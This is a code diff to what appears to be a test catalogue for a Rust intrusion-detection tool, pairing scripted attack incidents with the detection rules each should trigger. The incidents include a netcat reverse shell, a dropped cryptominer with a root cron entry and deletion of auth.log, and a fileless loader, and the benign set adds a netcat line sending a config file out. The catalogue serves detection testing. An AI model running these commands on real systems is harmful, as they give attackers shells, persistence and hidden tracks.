@@ -46,7 +46,7 @@ pub const INCIDENTS: &[Incident] = &[
         options: &[],
         way: Way::Web,
         script: "/bin/nc 10.20.0.9 4444 -e /bin/sh",
-        rules: &["Shell on a network connection"],
+        rules: &["Shell on a network connection", "Netcat gives a program away"],
     },
     Incident {
         name: "dropped-miner",
@@ -58,7 +58,14 @@ pub const INCIDENTS: &[Incident] = &[
             /tmp/.kdevtmpfsi mine -o stratum+tcp://10.20.0.9:3333 -u wallet -p x --donate-level 1
             echo '* * * * * /tmp/.kdevtmpfsi' >> /var/spool/cron/crontabs/root
             /bin/rm -f /var/log/auth.log",
-        rules: &["Program dropped and run", "Crypto miner started", "Scheduled job planted", "Log removed or emptied"],
+        rules: &[
+            "Program dropped and run",
+            "Program fetched and run",
+            "Crypto miner started",
+            "Mining pool asked",
+            "Scheduled job planted",
+            "Log removed or emptied",
+        ],
     },
     Incident {
         name: "docker-socket",
@@ -109,6 +116,10 @@ pub const INCIDENTS: &[Incident] = &[
             "Search for keys and passwords",
             "Credential file read by a tool",
             "Cloud metadata asked by a tool",
+            "Credentials read, then a connection",
+            "One port of many hosts tried",
+            "Many ports of one host tried",
+            "Log-ins tried one after the other",
         ],
     },
     Incident {
@@ -124,7 +135,7 @@ pub const INCIDENTS: &[Incident] = &[
         options: &[],
         way: Way::Web,
         script: "/bin/workloads fileless http://10.20.0.9/update 10.20.0.9:443",
-        rules: &["Program run from memory"],
+        rules: &["Program run from memory", "Program under the name of a kernel thread"],
     },
     Incident {
         name: "hijack",
@@ -214,6 +225,10 @@ pub const BENIGN: &[Incident] = &[
             /bin/tail -n 5 /var/log/auth.log
             /bin/grep -r workers /etc
             /bin/du -s /srv
+            /bin/find /srv -name index.html
+            /bin/tar -czf /tmp/srv.tar.gz /srv
+            /bin/nc -w 1 10.20.0.9 443 < /etc/app.conf
+            /bin/md5sum /bin/busybox
             /bin/wget -q -O - http://10.20.0.5:8080/index.html
             /bin/kill -0 1
             exit",
@@ -222,4 +237,5 @@ pub const BENIGN: &[Incident] = &[
 ];
 
 /// A health check, as images bring it along.
-const HEALTH: &[&str] = &["--health-cmd=/bin/wget -q -O /dev/null http://10.20.0.5:8080/index.html", "--health-interval=2s"];
+const HEALTH: &[&str] =
+    &["--health-cmd=/bin/wget -q -O /dev/null http://10.20.0.5:8080/index.html", "--health-interval=2s"];
